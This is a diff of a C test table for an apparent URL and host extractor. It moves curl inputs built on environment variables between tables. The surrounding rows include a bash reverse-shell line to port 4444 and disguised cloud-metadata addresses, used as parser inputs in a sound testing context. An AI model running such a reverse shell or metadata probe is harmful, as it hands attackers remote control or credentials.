@@ -103,6 +103,8 @@ static const struct row {
     { "an option of a command",                     "a",           "curl -o out.html example.com",                           AIS_URL_HOST,     "example.com"               },
     { "a user before a host",                       "a",           "ssh root@example.com id",                                AIS_URL_HOST,     "example.com"               },
     { "a shell's own device",                       "a",           "bash -i >& /dev/tcp/8.8.8.8/4444 0>&1",                  AIS_URL_PORT,     "4444"                      },
+    { "a variable of the environment has none",     "command",     "curl http://$HOST/x",                                    AIS_URL_HOST,     ""                          },
+    { "nor one that is all of an address",          "command",     "curl \\\"${BASE}/x\\\"",                                 AIS_URL_HOST,     ""                          },
     { "a template has no host",                     "a",           "http://{host}/a",                                        AIS_URL_HOST,     ""                          },
     { "a regular expression has none",              "a",           "^https?://[^/]+/",                                       AIS_URL_HOST,     ""                          },
     { "a drive is no scheme",                       "a",           "C:\\\\Windows\\\\x",                                     AIS_URL_SCHEME,   ""                          },
@@ -453,9 +455,6 @@ static const struct alike unreadables[] = {
     { "url",     "http://127.0.0.1%zz/"     },
     { "url",     "http://169.254.169.25[4]/"},
     { "url",     "http://{169.254.169.254}/"},
-    { "command", "curl http://$HOST/x"      },
-    { "command", "curl $URL"                },
-    { "command", "curl \\\"${BASE}/x\\\""   },
     { "command", "ssh $(next_host) ls"      },
     { "command", "wget `cat urls`"          },
 };
